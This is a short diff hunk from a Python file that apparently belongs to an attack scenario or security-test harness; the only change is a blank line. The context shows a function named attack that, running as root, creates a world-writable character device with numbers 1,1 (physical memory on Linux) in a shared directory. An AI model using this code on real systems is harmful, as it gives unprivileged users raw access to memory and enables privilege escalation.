@@ -4,5 +4,6 @@ import os
 
 ROOT = True
 
+
 def attack(A):
     os.mknod(f"{TARGET['shared']}/{TARGET['stray']}", 0o020666, os.makedev(1, 1))
